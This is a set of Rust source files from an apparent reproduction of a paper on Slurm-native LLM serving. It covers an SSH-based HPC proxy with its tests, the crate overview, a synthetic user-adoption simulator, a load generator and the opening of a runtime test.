        let out = client.exec("saia probe", b"")?;
        crate::util::json::parse(String::from_utf8_lossy(&out.stdout).trim())
            .map_err(|_| SshError::Timeout("bad probe response"))
    }

    /// Probe one service's GPU-node health endpoint through the chain.
    pub fn probe_service(&self, service: &str) -> Result<u16, SshError> {
        let client = self.connection().ok_or(SshError::ConnectionLost)?;
        let out = client.exec(&format!("saia probe {service}"), b"")?;
        let text = String::from_utf8_lossy(&out.stdout);
        let head = text.lines().next().unwrap_or("");
        let status = crate::util::json::parse(head)
            .ok()
            .and_then(|v| v.u64_field("status"))
            .unwrap_or(0) as u16;
        Ok(status)
    }

    /// Handle an HTTP request (the proxy's server handler body).
    pub fn handle(&self, req: &Request) -> Response {
        if req.path == "/healthz" {
            // local health of the proxy itself
            return if self.link.is_connected() {
                Response::text(200, "ok")
            } else {
                Response::error(503, "ssh connection down")
            };
        }

        // Parse /<service>/<rest...>
        let mut parts = req.path.splitn(3, '/');
        let _ = parts.next(); // leading empty
        let Some(service) = parts.next().filter(|s| !s.is_empty()) else {
            return Response::error(400, "missing service segment");
        };
        let rest = format!("/{}", parts.next().unwrap_or(""));

        // This hop's span clock starts at request receipt; the trace id
        // crosses the SSH boundary inside the envelope's header map (an
        // optional field, so old-format envelopes stay valid).
        let trace_id = req.header("x-chat-ai-trace").and_then(trace::TraceId::parse);
        let t0 = Instant::now();
        let _trace_scope = trace_id.map(trace::scoped);

        let stream = req.wants_stream();
        let mut headers = Json::obj();
        if let Some(ct) = req.header("content-type") {
            headers = headers.set("content-type", ct);
        }
        if let Some(consumer) = req.header("x-consumer") {
            headers = headers.set("x-consumer", consumer);
        }
        if let Some(priority) = req.header("x-chat-ai-priority") {
            headers = headers.set("x-chat-ai-priority", priority);
        }
        if let Some(id) = trace_id {
            headers = headers.set("x-chat-ai-trace", id.as_str());
        }
        let envelope = Json::obj()
            .set("service", service)
            .set("method", req.method.as_str())
            .set("path", rest.as_str())
            .set("headers", headers)
            .set("body", req.body_str().to_string())
            .set("stream", stream)
            .to_string();

        let connect_t0 = Instant::now();
        let Some(client) = self.connection() else {
            return Response::error(502, "HPC platform unreachable");
        };
        if let Some(id) = trace_id {
            // Usually ~0 (pooled connection); a fresh SSH dial after an
            // outage shows up here and in the TTFT attribution.
            let dial = connect_t0.elapsed();
            trace::record(id, trace::Hop::HpcProxy, trace::Stage::Connect, dial);
        }
        self.forwarded.fetch_add(1, Ordering::Relaxed);

        if stream {
            // Stream stdout frames straight through: first line is the head
            // envelope, the rest are body chunks. After the head line the
            // proxy stops interpreting bytes entirely — frames arrive as
            // pool-recycled buffers from the SSH reader and are forwarded
            // as-is (zero copy, no per-token allocation). A downstream
            // disconnect trips `cancel`, which becomes a Cancel frame on
            // the exec channel — the SSH connection is multiplexed, so
            // this is how one abandoned stream dies without touching the
            // others.
            let cfg = &self.config.streaming;
            let mut handle = StreamHandle::begin(self.stream_stats.clone());
            let cancel = handle.token();
            let (resp, tx) = Response::stream(200, cfg.chunk_buffer);
            let resp = resp
                .with_relay(cfg.relay)
                .with_stream_cancel(cancel.clone())
                .with_stall_timeout(cfg.stall_timeout)
                .with_stream_stats(self.stream_stats.clone());
            let relay = cfg.relay;
            let envelope = envelope.into_bytes();
            std::thread::spawn(move || {
                let _trace_scope = trace_id.map(trace::scoped);
                let mut head_buf: Vec<u8> = Vec::new();
                let mut head_done = false;
                // Latched at the first post-head payload byte (the
                // envelope head line travels ahead of the first token, so
                // it doesn't count as body).
                let mut ttfb_seen = false;
                let result = client.exec_relay(
                    "saia request",
                    &envelope,
                    &cancel,
                    |chunk| {
                        let payload: crate::util::http::PooledBuf = if head_done {
                            chunk
                        } else {
                            head_buf.extend_from_slice(chunk.as_slice());
                            match head_buf.iter().position(|b| *b == b'\n') {
                                Some(pos) => {
                                    // Head line consumed; forward the
                                    // remainder (one copy at stream start
                                    // only) and recycle the frame buffer.
                                    head_done = true;
                                    crate::util::http::PooledBuf::from(
                                        head_buf.split_off(pos + 1),
                                    )
                                }
                                None => return true,
                            }
                        };
                        if payload.is_empty() {
                            return true;
                        }
                        if !ttfb_seen {
                            ttfb_seen = true;
                            if let Some(id) = trace_id {
                                trace::record(
                                    id,
                                    trace::Hop::HpcProxy,
                                    trace::Stage::Ttfb,
                                    t0.elapsed(),
                                );
                            }
                        }
                        if relay {
                            handle.on_forward(payload.len());
                        } else {
                            handle.on_chunk(payload.len());
                        }
                        if tx.send(payload).is_err() {
                            cancel.cancel();
                            return false;
                        }
                        true
                    },
                );
                match result {
                    Ok(_) => handle.finish_completed(),
                    Err(SshError::Cancelled) => handle.finish_cancelled(),
                    Err(e) => {
                        // Terminal SSE error event instead of a silent
                        // clean-looking hangup; the trace id gives the
                        // failure a request identity.
                        handle.finish_error();
                        let tid = trace_id.as_ref().map(|i| i.as_str()).unwrap_or("-");
                        log::warn!(
                            target: "hpc_proxy",
                            "exec stream failed (trace {tid}): {e}"
                        );
                        let event = Response::sse_error_event(
                            &format!("upstream error: {e}"),
                            "upstream_error",
                            trace_id.as_ref().map(|i| i.as_str()),
                        );
                        let _ = tx.send(event.into());
                    }
                }
            });
            resp.with_header("content-type", "text/event-stream")
        } else {
            match client.exec("saia request", envelope.as_bytes()) {
                Ok(out) => {
                    if let Some(id) = trace_id {
                        trace::record(id, trace::Hop::HpcProxy, trace::Stage::Ttfb, t0.elapsed());
                    }
                    split_response(&out.stdout)
                }
                Err(e) => Response::error(502, &format!("ssh exec failed: {e}")),
            }
        }
    }

    pub fn serve(self: &Arc<HpcProxy>, addr: &str, workers: usize) -> std::io::Result<Server> {
        let this = self.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        Server::serve(addr, "hpc-proxy", workers, handler)
    }
}

/// Split the cloud-interface stdout envelope (head JSON line + body) into
/// an HTTP response.
fn split_response(stdout: &[u8]) -> Response {
    let Some(pos) = stdout.iter().position(|b| *b == b'\n') else {
        return Response::error(502, "malformed upstream envelope");
    };
    let head = String::from_utf8_lossy(&stdout[..pos]);
    let Ok(head) = crate::util::json::parse(&head) else {
        return Response::error(502, "malformed upstream head");
    };
    let status = head.u64_field("status").unwrap_or(502) as u16;
    let mut resp = Response::new(status).with_body(stdout[pos + 1..].to_vec());
    if let Some(ra) = head.get("headers").and_then(|h| h.str_field("retry-after")) {
        // Shed responses keep their backoff hint across the SSH hop.
        resp = resp.with_header("retry-after", ra);
    }
    if let Some(ct) = head
        .get("headers")
        .and_then(|h| h.str_field("content-type"))
    {
        resp = resp.with_header("content-type", ct);
    } else if let Some(err) = head.str_field("error") {
        resp = resp.with_body(
            Json::obj()
                .set("error", Json::obj().set("message", err))
                .to_string()
                .into_bytes(),
        );
    }
    resp
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ssh::{AuthorizedKey, SshServer, SshServerConfig};
    use std::sync::atomic::Ordering;

    const KEY: &str = "SHA256:test-key";

    fn sshd_with_script() -> SshServer {
        let server = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        server.register_executable("saia", |ctx| {
            // Minimal cloud-script stand-in: answer pings and echo requests.
            let cmd = ctx.original_command.clone();
            if cmd == "saia ping" {
                (ctx.stdout)(b"pong\n");
                return 0;
            }
            if cmd == "saia probe" {
                (ctx.stdout)(br#"{"status":200,"services":{}}"#);
                (ctx.stdout)(b"\n");
                return 0;
            }
            // request: reflect the envelope back as the body
            (ctx.stdout)(br#"{"status":200,"headers":{"content-type":"application/json"}}"#);
            (ctx.stdout)(b"\n");
            (ctx.stdout)(&ctx.stdin.clone());
            0
        });
        server
    }

    fn proxy_for(server: &SshServer, keepalive_ms: u64) -> Arc<HpcProxy> {
        HpcProxy::new(HpcProxyConfig {
            ssh_addr: server.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(keepalive_ms),
            reconnect_backoff: Duration::from_millis(20),
            reconnect_backoff_max: Duration::from_millis(200),
            streaming: crate::util::streaming::StreamingConfig::default(),
        })
    }

    #[test]
    fn keepalives_flow_and_reconnect_after_outage() {
        let server = sshd_with_script();
        let proxy = proxy_for(&server, 30);
        std::thread::sleep(Duration::from_millis(300));
        assert!(proxy.pings_sent.load(Ordering::Relaxed) >= 3);
        assert!(proxy.reconnects() >= 1);
        // Outage: stop the server; proxy detects and reconnects when a
        // new one appears at... (same addr is gone, so probe fails).
        let addr = server.addr();
        drop(server);
        std::thread::sleep(Duration::from_millis(200));
        assert!(proxy.probe().is_err(), "outage detected");
        let _ = addr;
        proxy.shutdown();
    }

    #[test]
    fn forwards_requests_with_service_path_split() {
        let server = sshd_with_script();
        let proxy = proxy_for(&server, 1000);
        let http = proxy.serve("127.0.0.1:0", 4).unwrap();
        let mut client = crate::util::http::Client::new(&http.url());
        let resp = client
            .post_json(
                "/llama3-70b/v1/chat/completions",
                &Json::obj().set("x", 1u64),
            )
            .unwrap();
        assert_eq!(resp.status, 200);
        // The mock echoes the envelope: check service/path separation.
        let envelope = resp.json().unwrap();
        assert_eq!(envelope.str_field("service"), Some("llama3-70b"));
        assert_eq!(envelope.str_field("path"), Some("/v1/chat/completions"));
        assert_eq!(envelope.str_field("method"), Some("POST"));
        proxy.shutdown();
    }

    #[test]
    fn missing_service_segment_is_400() {
        let server = sshd_with_script();
        let proxy = proxy_for(&server, 1000);
        let http = proxy.serve("127.0.0.1:0", 2).unwrap();
        let mut client = crate::util::http::Client::new(&http.url());
        assert_eq!(client.get("/").unwrap().status, 400);
        proxy.shutdown();
    }

    #[test]
    fn healthz_reflects_connection_state() {
        let server = sshd_with_script();
        let proxy = proxy_for(&server, 50);
        let http = proxy.serve("127.0.0.1:0", 2).unwrap();
        std::thread::sleep(Duration::from_millis(150));
        let mut client = crate::util::http::Client::new(&http.url());
        assert_eq!(client.get("/healthz").unwrap().status, 200);
        proxy.shutdown();
    }

    #[test]
    fn backoff_delay_doubles_caps_and_jitters() {
        let base = Duration::from_millis(100);
        let max = Duration::from_secs(2);
        assert_eq!(backoff_delay(base, max, 0, 0.0), Duration::ZERO);
        // No jitter → upper-half floor: exactly half the exponential step.
        assert_eq!(backoff_delay(base, max, 1, 0.0), Duration::from_millis(50));
        assert_eq!(backoff_delay(base, max, 2, 0.0), Duration::from_millis(100));
        assert_eq!(backoff_delay(base, max, 3, 0.0), Duration::from_millis(200));
        // Full jitter → the whole step.
        let d = backoff_delay(base, max, 3, 0.999);
        assert!(d > Duration::from_millis(390) && d <= Duration::from_millis(400), "{d:?}");
        // Capped at max regardless of failure count (incl. huge counts).
        assert!(backoff_delay(base, max, 30, 0.999) <= max);
        assert!(backoff_delay(base, max, u32::MAX, 0.5) <= max);
        // Jittered delays stay within [cap/2, cap].
        let d = backoff_delay(base, max, 10, 0.5);
        assert!(d >= Duration::from_secs(1) && d <= max, "{d:?}");
    }

    #[test]
    fn dead_endpoint_is_not_hammered() {
        // Point at a fresh unused port: every connect fails fast.
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = dead.local_addr().unwrap();
        drop(dead);
        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: addr,
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(5),
            reconnect_backoff: Duration::from_millis(60),
            reconnect_backoff_max: Duration::from_millis(500),
            streaming: crate::util::streaming::StreamingConfig::default(),
        });
        std::thread::sleep(Duration::from_millis(300));
        let attempts = proxy.connect_attempts();
        // An eager loop at a 5 ms cadence would attempt ~60 times; the
        // backoff gate (≥30 ms after the first failure, growing) keeps it
        // to a handful.
        assert!(attempts >= 1, "at least one attempt made");
        assert!(attempts <= 8, "backoff failed to slow reconnects: {attempts}");
        assert!(proxy.consecutive_failures() >= 1);
        // Requests during the backoff window fail fast instead of blocking.
        let t0 = std::time::Instant::now();
        assert!(proxy.probe().is_err());
        assert!(t0.elapsed() < Duration::from_millis(100), "no inline sleep");
        proxy.shutdown();
    }

    #[test]
    fn backoff_resets_after_successful_reconnect() {
        let server = sshd_with_script();
        let proxy = proxy_for(&server, 20);
        std::thread::sleep(Duration::from_millis(100));
        assert_eq!(proxy.consecutive_failures(), 0);
        assert!(proxy.probe().is_ok());
        proxy.shutdown();
    }

    #[test]
    fn split_response_parses_envelopes() {
        let resp = split_response(b"{\"status\":418}\nteapot body");
        assert_eq!(resp.status, 418);
        match &resp.body {
            crate::util::http::Body::Full(b) => assert_eq!(b, b"teapot body"),
            _ => panic!("expected full body"),
        }
        assert_eq!(split_response(b"no newline").status, 502);
        assert_eq!(split_response(b"not json\nbody").status, 502);
        // error envelope becomes OpenAI-style error body
        let resp = split_response(b"{\"status\":503,\"error\":\"loading\"}\n");
        assert_eq!(resp.status, 503);
    }
}
