//! # chat-ai — Slurm-native LLM serving
//!
//! Reproduction of *"Chat AI: A Seamless Slurm-Native Solution for HPC-Based
//! Services"* (Doosthosseini, Decker, Nolte, Kunkel — GWDG, 2024) as a
//! three-layer Rust + JAX + Bass stack.
//!
//! The crate implements the paper's full architecture (Figure 1), extended
//! with a multi-cluster federation layer:
//!
//! ```text
//!  user ──HTTP──► [auth (SSO)] ─► [gateway (Kong-like)] ─► [webapp]
//!                                        │
//!                                        ▼
//!                              [federated router]  (ESX side)
//!                         availability → health → least-loaded,
//!                         spillover + per-cluster circuit breaker
//!                               │                   │
//!                               ▼                   ▼
//!                       [hpc_proxy A]        [hpc_proxy B]   ... cluster N
//!                               │  SSH exec channel, ForceCommand
//!                               ▼                   ▼
//!                      [cloud_interface]     [cloud_interface]   (per cluster)
//!                          │        │
//!                          ▼        ▼
//!                     [scheduler] [routing table] ◄── [federation prober]
//!                          │        │                  (scrapes via SSH)
//!                       sbatch      ▼
//!                          ▼     [llm servers]  (HPC GPU nodes)
//!                       [slurm]      │
//!                                    ▼
//!                           [runtime: PJRT/XLA artifacts]
//! ```
//!
//! With a single `[[cluster]]` (or none configured) the stack collapses to
//! the paper's exact shape: gateway routes point straight at the one HPC
//! proxy and no federation layer is spawned.
//!
//! plus every substrate the paper assumes: a Slurm simulator, an SSH-like
//! transport with a ForceCommand circuit breaker, an API gateway, an
//! OpenAI-compatible LLM engine with paged KV cache and continuous batching,
//! HTTP/JSON plumbing, metrics, and workload generators reproducing the
//! paper's evaluation (Tables 1–2, Figures 3–5).
//!
//! See `DESIGN.md` for the system inventory and experiment index and
//! `EXPERIMENTS.md` for paper-vs-measured results.

pub mod auth;
pub mod cloud_interface;
pub mod config;
pub mod coordinator;
pub mod external_proxy;
pub mod federation;
pub mod gateway;
pub mod hpc_proxy;
pub mod llm;
pub mod monitoring;
pub mod runtime;
pub mod scheduler;
pub mod slurm;
pub mod ssh;
pub mod util;
pub mod webapp;
pub mod workload;
