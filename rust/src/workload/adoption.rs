//! User-adoption simulator: regenerates Figures 3–5.
//!
//! The paper reports Chat AI's growth from its release (Feb 22 2024) to
//! Jul 30 2024: cumulative registrations (Fig 3, ~6k by May, ~9k by
//! June), daily active/new users (Fig 4, 400–500 actives and ~100 new per
//! workday, weekend/holiday dips), and requests per day split into
//! internal vs external models (Fig 5, >350k total messages, with
//! feature/model launch events visibly bending the curves).
//!
//! We have no access to the production logs (DESIGN.md §Substitutions);
//! this module is a seeded generative model calibrated so the aggregate
//! statistics land on the paper's reported numbers, with the same event
//! timeline driving the shape.

use crate::util::rng::Rng;

/// Day 0 = Thursday, Feb 22 2024 (release day).
pub const TOTAL_DAYS: usize = 160; // through Jul 30 2024
const RELEASE_WEEKDAY: usize = 3; // Thursday (0 = Monday)

/// Event timeline (day offsets from release), per the paper's Figure 5.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Event {
    Release,
    Gpt4Added,
    QwenAdded,
    Advertisement,
    MixtralAdded,
    UiRedesign,
    ApiAccess,
    Llama3Added,
}

pub const EVENTS: &[(usize, Event)] = &[
    (0, Event::Release),
    (13, Event::Gpt4Added),      // early March
    (34, Event::QwenAdded),      // late March
    (46, Event::Advertisement),  // Apr 8: university-wide advertisement
    (55, Event::MixtralAdded),
    (82, Event::UiRedesign),     // mid-May redesign
    (103, Event::ApiAccess),     // June: OpenAI-compatible API offered
    (126, Event::Llama3Added),
];

/// German public holidays in the window (day offsets): Good Friday,
/// Easter Monday, May 1, Ascension, Pentecost Monday.
const HOLIDAYS: &[usize] = &[36, 39, 69, 77, 88];

/// One simulated day.
#[derive(Debug, Clone)]
pub struct DayStats {
    pub day: usize,
    /// 0 = Monday ... 6 = Sunday.
    pub weekday: usize,
    pub is_holiday: bool,
    pub new_users: u64,
    pub returning_users: u64,
    pub total_users: u64,
    pub requests_internal: u64,
    pub requests_external: u64,
    pub api_requests: u64,
}

impl DayStats {
    pub fn active_users(&self) -> u64 {
        self.new_users + self.returning_users
    }

    pub fn requests(&self) -> u64 {
        self.requests_internal + self.requests_external
    }
}

/// Model parameters (exposed for ablations).
#[derive(Debug, Clone)]
pub struct AdoptionParams {
    /// Registration capacity (the addressable academic population).
    pub capacity: f64,
    /// Base daily registration pull (fraction of remaining capacity).
    pub growth_rate: f64,
    /// Word-of-mouth: extra growth proportional to current users.
    pub word_of_mouth: f64,
    /// Fraction of registered users active on a workday.
    pub weekday_activity: f64,
    /// Weekend/holiday activity multiplier.
    pub weekend_factor: f64,
    /// Mean chat messages per active user per day.
    pub messages_per_user: f64,
    /// Mean requests per API user per day (they run experiments).
    pub api_messages_per_user: f64,
    /// Advertisement shock multiplier (applied for a few days).
    pub ad_boost: f64,
    /// July summer-break activity damping.
    pub summer_factor: f64,
}

impl Default for AdoptionParams {
    fn default() -> AdoptionParams {
        AdoptionParams {
            capacity: 20_000.0,
            growth_rate: 0.004,
            word_of_mouth: 0.018,
            weekday_activity: 0.062,
            weekend_factor: 0.25,
            messages_per_user: 4.6,
            api_messages_per_user: 60.0,
            ad_boost: 3.0,
            summer_factor: 0.75,
        }
    }
}

/// Run the adoption simulation.
pub fn simulate(params: &AdoptionParams, seed: u64) -> Vec<DayStats> {
    let mut rng = Rng::new(seed);
    let mut out = Vec::with_capacity(TOTAL_DAYS);
    let mut total_users = 0f64;
    let mut api_users = 0f64;

    for day in 0..TOTAL_DAYS {
        let weekday = (RELEASE_WEEKDAY + day) % 7;
        let is_weekend = weekday >= 5;
        let is_holiday = HOLIDAYS.contains(&day);
        let active_day = !(is_weekend || is_holiday);

        // --- external-model availability & mix --------------------------
        let gpt4_live = day >= 13;
        // Internal share grows as more/better open models land.
        let internal_share: f64 = if !gpt4_live {
            0.95
        } else {
            let mut share = 0.45f64;
            if day >= 34 {
                share += 0.08; // Qwen
            }
            if day >= 55 {
                share += 0.07; // Mixtral
            }
            if day >= 103 {
                share += 0.10; // API access targets open models
            }
            if day >= 126 {
                share += 0.05; // Llama3
            }
            share.min(0.85)
        };

        // --- registrations ------------------------------------------------
        let mut growth = params.growth_rate * (params.capacity - total_users)
            + params.word_of_mouth * total_users * (1.0 - total_users / params.capacity);
        if (46..52).contains(&day) {
            growth *= params.ad_boost; // advertisement shock (Apr 8)
        }
        if day >= 82 && day < 86 {
            growth *= 1.4; // redesign press
        }
        let day_factor = if active_day {
            1.0
        } else {
            params.weekend_factor
        };
        let summer = if day >= 132 { params.summer_factor } else { 1.0 };
        let new_users = rng.poisson(growth.max(0.0) * day_factor * summer);
        total_users += new_users as f64;

        // --- API users (from June) -----------------------------------------
        if day >= 103 {
            api_users += rng.poisson(if active_day { 1.8 } else { 0.3 }) as f64;
        }

        // --- daily activity -------------------------------------------------
        let activity = params.weekday_activity * day_factor * summer;
        let returning = rng.poisson(total_users * activity) as u64;

        // --- requests ---------------------------------------------------------
        let active = returning + new_users;
        let chat_requests = rng.poisson(active as f64 * params.messages_per_user);
        let api_requests = rng.poisson(
            api_users * params.api_messages_per_user * if active_day { 1.0 } else { 0.4 },
        );
        let internal = ((chat_requests as f64) * internal_share) as u64 + api_requests;
        let external = chat_requests - ((chat_requests as f64) * internal_share) as u64;

        out.push(DayStats {
            day,
            weekday,
            is_holiday,
            new_users,
            returning_users: returning,
            total_users: total_users as u64,
            requests_internal: internal,
            requests_external: external,
            api_requests,
        });
    }
    out
}

/// Aggregates used by the benches and EXPERIMENTS.md.
pub struct AdoptionSummary {
    pub total_users_final: u64,
    pub total_users_day_100: u64,
    pub total_messages: u64,
    pub mean_workday_actives: f64,
    pub mean_workday_new: f64,
    pub weekend_dip: f64,
}

pub fn summarize(days: &[DayStats]) -> AdoptionSummary {
    let workdays: Vec<&DayStats> = days
        .iter()
        .filter(|d| d.weekday < 5 && !d.is_holiday && d.day > 20)
        .collect();
    let weekends: Vec<&DayStats> = days
        .iter()
        .filter(|d| d.weekday >= 5 && d.day > 20)
        .collect();
    let mean = |xs: &[&DayStats], f: &dyn Fn(&DayStats) -> u64| -> f64 {
        if xs.is_empty() {
            0.0
        } else {
            xs.iter().map(|d| f(d) as f64).sum::<f64>() / xs.len() as f64
        }
    };
    let workday_active = mean(&workdays, &|d| d.active_users());
    let weekend_active = mean(&weekends, &|d| d.active_users());
    AdoptionSummary {
        total_users_final: days.last().map(|d| d.total_users).unwrap_or(0),
        total_users_day_100: days.get(100).map(|d| d.total_users).unwrap_or(0),
        total_messages: days.iter().map(|d| d.requests()).sum(),
        mean_workday_actives: workday_active,
        mean_workday_new: mean(&workdays, &|d| d.new_users),
        weekend_dip: weekend_active / workday_active.max(1.0),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run() -> (Vec<DayStats>, AdoptionSummary) {
        let days = simulate(&AdoptionParams::default(), 2024);
        let summary = summarize(&days);
        (days, summary)
    }

    #[test]
    fn matches_paper_aggregates() {
        let (_days, s) = run();
        // Fig 3: ~9000 users by June (day ~100), growing after.
        assert!(
            (7_000..12_000).contains(&s.total_users_day_100),
            "users@day100 = {}",
            s.total_users_day_100
        );
        // Fig 4: 400–500 workday actives, ~100 new users per workday.
        assert!(
            (350.0..650.0).contains(&s.mean_workday_actives),
            "actives = {}",
            s.mean_workday_actives
        );
        assert!(
            (60.0..160.0).contains(&s.mean_workday_new),
            "new = {}",
            s.mean_workday_new
        );
        // Fig 5: >350k total messages by Jul 30.
        assert!(
            s.total_messages > 350_000,
            "messages = {}",
            s.total_messages
        );
        // Weekends dip well below workdays.
        assert!(s.weekend_dip < 0.5, "weekend dip = {}", s.weekend_dip);
    }

    #[test]
    fn deterministic_per_seed() {
        let a = simulate(&AdoptionParams::default(), 7);
        let b = simulate(&AdoptionParams::default(), 7);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.requests(), y.requests());
        }
        let c = simulate(&AdoptionParams::default(), 8);
        assert!(a.iter().zip(&c).any(|(x, y)| x.requests() != y.requests()));
    }

    #[test]
    fn cumulative_users_monotone() {
        let (days, _) = run();
        let mut prev = 0;
        for d in &days {
            assert!(d.total_users >= prev);
            prev = d.total_users;
        }
    }

    #[test]
    fn advertisement_bends_the_curve() {
        let (days, _) = run();
        // Growth in the week after the ad ≫ the week before.
        let before: u64 = (39..46).map(|i| days[i].new_users).sum();
        let after: u64 = (46..53).map(|i| days[i].new_users).sum();
        assert!(
            after as f64 > before as f64 * 1.5,
            "before={before} after={after}"
        );
    }

    #[test]
    fn internal_share_grows_over_time() {
        let (days, _) = run();
        let share = |d: &DayStats| d.requests_internal as f64 / d.requests().max(1) as f64;
        let early: f64 = days[20..30].iter().map(share).sum::<f64>() / 10.0;
        let late: f64 = days[140..150].iter().map(share).sum::<f64>() / 10.0;
        assert!(late > early, "early={early:.2} late={late:.2}");
        assert!(late > 0.7, "open models dominate by July: {late:.2}");
    }

    #[test]
    fn api_requests_appear_after_launch() {
        let (days, _) = run();
        assert!(days[..100].iter().all(|d| d.api_requests == 0));
        assert!(days[120..].iter().any(|d| d.api_requests > 100));
    }
}
