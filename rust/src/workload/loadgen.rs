//! Locust-like load generator (§6.3): closed-loop workers hammering a
//! target, collecting throughput + latency percentiles. Used by the
//! Table 1 / Table 2 benches and the examples.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::util::hist::Histogram;

#[derive(Debug, Clone)]
pub struct LoadGenConfig {
    /// Concurrent workers (closed loop: next request after the response).
    pub concurrency: usize,
    /// Measurement window.
    pub duration: Duration,
    /// Warm-up discarded before measurement.
    pub warmup: Duration,
}

impl Default for LoadGenConfig {
    fn default() -> Self {
        LoadGenConfig {
            concurrency: 16,
            duration: Duration::from_secs(3),
            warmup: Duration::from_millis(300),
        }
    }
}

/// Aggregated results.
#[derive(Debug)]
pub struct LoadResult {
    pub requests: u64,
    pub errors: u64,
    pub elapsed: Duration,
    pub latency: Arc<Histogram>,
}

impl LoadResult {
    pub fn rps(&self) -> f64 {
        self.requests as f64 / self.elapsed.as_secs_f64()
    }

    pub fn summary(&self, name: &str) -> String {
        format!(
            "{name}: {:.0} RPS  ({} reqs, {} errors, {})",
            self.rps(),
            self.requests,
            self.errors,
            self.latency.summary_ms()
        )
    }
}

/// Run a closed-loop load test. `make_worker` builds one closure per
/// worker; each invocation performs one request and reports success.
pub fn run_closed_loop<F, W>(config: &LoadGenConfig, make_worker: F) -> LoadResult
where
    F: Fn(usize) -> W,
    W: FnMut() -> bool + Send + 'static,
{
    let stop = Arc::new(AtomicBool::new(false));
    let measuring = Arc::new(AtomicBool::new(false));
    let requests = Arc::new(AtomicU64::new(0));
    let errors = Arc::new(AtomicU64::new(0));
    let latency = Arc::new(Histogram::new());

    let mut handles = Vec::new();
    for i in 0..config.concurrency {
        let mut work = make_worker(i);
        let stop = stop.clone();
        let measuring = measuring.clone();
        let requests = requests.clone();
        let errors = errors.clone();
        let latency = latency.clone();
        handles.push(std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let t0 = Instant::now();
                let ok = work();
                let us = t0.elapsed().as_micros() as u64;
                if measuring.load(Ordering::Relaxed) {
                    requests.fetch_add(1, Ordering::Relaxed);
                    if !ok {
                        errors.fetch_add(1, Ordering::Relaxed);
                    }
                    latency.record(us);
                }
            }
        }));
    }

    std::thread::sleep(config.warmup);
    measuring.store(true, Ordering::SeqCst);
    let t0 = Instant::now();
    std::thread::sleep(config.duration);
    let elapsed = t0.elapsed();
    stop.store(true, Ordering::SeqCst);
    for h in handles {
        let _ = h.join();
    }

    LoadResult {
        requests: requests.load(Ordering::Relaxed),
        errors: errors.load(Ordering::Relaxed),
        elapsed,
        latency,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn measures_throughput_of_known_rate() {
        // Worker that takes ~1ms → 4 workers ≈ 4000 RPS ceiling.
        let config = LoadGenConfig {
            concurrency: 4,
            duration: Duration::from_millis(300),
            warmup: Duration::from_millis(50),
        };
        let result = run_closed_loop(&config, |_| {
            || {
                std::thread::sleep(Duration::from_millis(1));
                true
            }
        });
        let rps = result.rps();
        assert!(rps > 1000.0 && rps < 4200.0, "rps={rps}");
        assert_eq!(result.errors, 0);
        assert!(result.latency.p50() >= 1000, "p50 ≥ 1ms");
    }

    #[test]
    fn counts_errors() {
        let config = LoadGenConfig {
            concurrency: 2,
            duration: Duration::from_millis(100),
            warmup: Duration::ZERO,
        };
        let result = run_closed_loop(&config, |i| {
            let fail = i == 0;
            move || {
                std::thread::sleep(Duration::from_micros(200));
                !fail
            }
        });
        assert!(result.errors > 0);
        assert!(result.errors < result.requests);
    }
}
