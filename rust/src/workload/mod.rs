//! Workload generation: the Locust-like load tester (§6.3) and the
//! user-adoption simulator behind Figures 3–5.

pub mod adoption;
pub mod loadgen;

pub use adoption::{simulate, summarize, AdoptionParams, DayStats};
pub use loadgen::{run_closed_loop, LoadGenConfig, LoadResult};
