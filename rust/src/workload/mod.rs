//! Workload generation: the Locust-like load tester (§6.3) and the
//! user-adoption simulator behind Figures 3–5.

pub mod adoption;
pub mod loadgen;

pub use adoption::{simulate, summarize, AdoptionParams, DayStats};
pub use loadgen::{run_closed_loop, LoadGenConfig, LoadResult};

/// Shared bench-runner conventions: CI smoke mode + JSON result artifacts.
pub mod bench {
    use crate::util::json::Json;

    /// `CHAT_AI_BENCH_SMOKE=1` shrinks bench durations/matrices so CI can
    /// run every bench as a smoke test.
    pub fn smoke() -> bool {
        std::env::var("CHAT_AI_BENCH_SMOKE")
            .map(|v| v == "1")
            .unwrap_or(false)
    }

    /// Emit a bench's machine-readable result: echoed to stdout and, when
    /// `CHAT_AI_BENCH_JSON` names a path, written there for CI to upload
    /// as a workflow artifact (the BENCH_* perf trajectory's producer).
    pub fn emit_json(name: &str, result: &Json) {
        let doc = Json::obj()
            .set("bench", name)
            .set("smoke", smoke())
            .set("result", result.clone());
        println!("\nJSON: {doc}");
        if let Ok(path) = std::env::var("CHAT_AI_BENCH_JSON") {
            if let Err(e) = std::fs::write(&path, doc.to_string()) {
                eprintln!("failed to write bench JSON to {path}: {e}");
            }
        }
    }
}
