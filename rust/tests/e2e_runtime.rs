//! End-to-end runtime tests: load the `tiny` AOT artifacts through PJRT
//! (via the process-wide model executor) and verify the decode path
//! numerically — the same prefill/decode-equivalence invariant the python
//! suite checks eagerly, now through the full HLO-text → PJRT-CPU path
//! the serving binary uses.

use std::path::PathBuf;
use std::sync::Arc;

use chat_ai::runtime::ModelExecutor;

fn executor() -> Option<Arc<ModelExecutor>> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("artifacts");
    if !root.join("manifest.json").exists() {
        eprintln!("skipping: artifacts not built (run `make artifacts`)");
        return None;
    }
    let exec = ModelExecutor::global(&root);
    exec.load("tiny").unwrap();
    Some(exec)
}

fn max_abs_diff(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| (x - y).abs())
        .fold(0.0, f32::max)
}

